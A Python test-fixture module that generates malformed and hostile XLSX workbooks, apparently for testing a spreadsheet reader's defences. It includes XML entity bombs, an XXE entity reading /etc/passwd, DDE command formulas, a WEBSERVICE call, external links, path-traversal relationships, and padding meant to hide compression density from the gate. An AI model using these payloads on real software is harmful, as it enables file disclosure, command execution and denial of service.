"""Workbooks in sound packages whose parts were made to harm a reader."""

from collections.abc import Mapping
from random import Random

from tests.exports.readers.made_files import NAMESPACE, SHEET, sheet_xml
from tests.exports.readers.made_files import changed as packed_again

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
_STRINGS = "xl/sharedStrings.xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(parts: Mapping[str, bytes]) -> bytes:
    """Return a workbook with these parts, and as much noise as hides from the gate how densely they were packed."""
    size = sum(map(len, parts.values()))
    noise = Random(size).randbytes(size // 150) if size > 2**20 else b""
    return packed_again({**parts, "xl/media/noise.png": noise})


def _with_text(declaration: str, text: str) -> bytes:
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'
    return changed({SHEET: sheet_xml(cell, declaration)})


def billion_laughs() -> bytes:
    """Entities that grow tenfold nine times."""
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10)
    )
    return _with_text(f"<!DOCTYPE worksheet [{entities}]>", "&a9;")


def external_entity() -> bytes:
    """An entity that is a file of the PC."""
    return _with_text('<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;")


def quadratic_blowup() -> bytes:
    """One long entity, named often."""
    return _with_text(f'<!DOCTYPE a [<!ENTITY e "{"x" * 50_000}">]>', "&e;" * 20_000)


def utf16_entities() -> bytes:
    """Entities in a part written in UTF-16, where a search for bytes does not see them."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    return changed({SHEET: text.encode("utf-16")})


def deep_nesting() -> bytes:
    """A million elements, each in the one before."""
    return changed({SHEET: f"{_HEAD}{'<a>' * 1_000_000}{'</a>' * 1_000_000}".encode()})


def deep_styles() -> bytes:
    """The same among the styles, which another reader takes."""
    return changed({"xl/styles.xml": f"{_HEAD}{'<a>' * 200_000}{'</a>' * 200_000}".encode()})


def far_cells() -> bytes:
    """A cell in each corner of the sheet."""
    rows = "".join(f'<row><c r="{place}"><v>1</v></c></row>' for place in ("A1", "XFD1", "XFD1048576"))
    return changed({SHEET: sheet_xml(rows)})


def many_rows() -> bytes:
    """As many filled cells as the gate just lets through."""
    row = "".join(f'<c t="n"><v>{number}</v></c>' for number in range(16))
    return changed({SHEET: sheet_xml(f"<row>{row}</row>" * 50_000)})


def same_cell() -> bytes:
    """One cell, a million times."""
    cells = '<c r="A1"><v>1</v></c>' * 1_000_000
    return changed({SHEET: sheet_xml(f'<row r="1">{cells}</row>')})


def huge_strings() -> bytes:
    """A shared text of 30,000 letters, shown in 200,000 cells."""
    text = f'{_HEAD}<sst xmlns="{NAMESPACE}"><si><t>{"ữ" * 30_000}</t></si></sst>'
    row = '<c t="s"><v>0</v></c>' * 100
    return _shared(text, f"<row>{row}</row>" * 2_000)


def many_strings() -> bytes:
    """More than a million shared texts, none of them shown."""
    text = f'{_HEAD}<sst xmlns="{NAMESPACE}">{"<si><t/></si>" * 1_200_000}</sst>'
    return _shared(text, '<row><c t="s"><v>999999</v></c></row>')


def lying_count() -> bytes:
    """Four thousand million shared texts, by their own word."""
    text = (
        f'{_HEAD}<sst xmlns="{NAMESPACE}" count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>'
    )
    return _shared(text, '<row><c t="s"><v>4294967294</v></c></row>')


def _shared(text: str, rows: str) -> bytes:
    types = (
        f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    links = (
        f'{_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    book = (
        f'{_HEAD}<workbook xmlns="{NAMESPACE}" xmlns:r="{_RELATIONS}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    parts = {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": links, "xl/workbook.xml": book}
    encoded = {name: content.encode() for name, content in parts.items()}
    return changed({**encoded, _STRINGS: text.encode(), SHEET: sheet_xml(rows)})


def many_sheets() -> bytes:
    """A million sheets declared, all in one part."""
    sheets = "".join(
        f'<sheet name="{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 1_000_001)
    )
    book = f'{_HEAD}<workbook xmlns="{NAMESPACE}" xmlns:r="{_RELATIONS}"><sheets>{sheets}</sheets></workbook>'
    return changed({"xl/workbook.xml": book.encode()})


def huge_merges() -> bytes:
    """Merged ranges as large as the sheet, a hundred thousand of them."""
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 100_000
    xml = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>').decode()
    return changed(
        {SHEET: xml.replace("</worksheet>", f"<mergeCells>{merges}</mergeCells></worksheet>").encode()}
    )


def huge_styles() -> bytes:
    """Three hundred thousand fonts."""
    fonts = '<font><sz val="11"/></font>' * 300_000
    return changed(
        {
            "xl/styles.xml": f'{_HEAD}<styleSheet xmlns="{NAMESPACE}"><fonts>{fonts}</fonts></styleSheet>'.encode()
        }
    )


def wide_columns() -> bytes:
    """Column widths for columns that no sheet has."""
    columns = '<cols><col min="1" max="4294967295" width="9" hidden="1"/></cols>'
    xml = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>').decode()
    return changed({SHEET: xml.replace("<sheetData>", f"{columns}<sheetData>").encode()})


def external_links() -> bytes:
    """Figures that are to be fetched from another PC."""
    link = f'{_HEAD}<externalLink xmlns="{NAMESPACE}"><externalBook xmlns:r="{_RELATIONS}" r:id="rId1"/></externalLink>'
    relation = (
        f'{_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/externalLinkPath" Target="http://192.0.2.1/a.xlsx"'
        ' TargetMode="External"/></Relationships>'
    )
    cell = '<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>7</v></c></row>'
    parts = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": relation,
    }
    return changed({**{name: text.encode() for name, text in parts.items()}, SHEET: sheet_xml(cell)})


def dde_formulas() -> bytes:
    """Formulas that start a program, and texts that a spreadsheet would take for such."""
    cells = (
        "<c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>1</v></c>"
        '<c r="B1" t="inlineStr"><is><t>=WEBSERVICE("http://192.0.2.1/")</t></is></c>'
        '<c r="C1" t="inlineStr"><is><t>@SUM(1+1)*cmd|\' /C calc\'!A0</t></is></c>'
    )
    return changed({SHEET: sheet_xml(f'<row r="1">{cells}</row>')})


def comment_of_tags() -> bytes:
    """A comment full of beginnings of cells, over which a pattern would go again and again."""
    return changed(
        {SHEET: sheet_xml(f'<!-- {"<c t= " * 1_000_000} --><row r="1"><c r="A1" t="e"><v>1</v></c></row>')}
    )


def long_attribute() -> bytes:
    """One attribute of 60 MB."""
    return changed({SHEET: sheet_xml(f'<row r="1" spans="{"1 " * 30_000_000}"/>')})


def upward_relation() -> bytes:
    """A sheet that is said to lie outside the package."""
    relation = (
        f'{_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/worksheet" Target="../../../etc/passwd"/>'
        f'<Relationship Id="rId2" Type="{_RELATIONS}/worksheet" Target="file:///etc/passwd" TargetMode="External"/>'
        "</Relationships>"
    )
    return changed({"xl/_rels/workbook.xml.rels": relation.encode()})
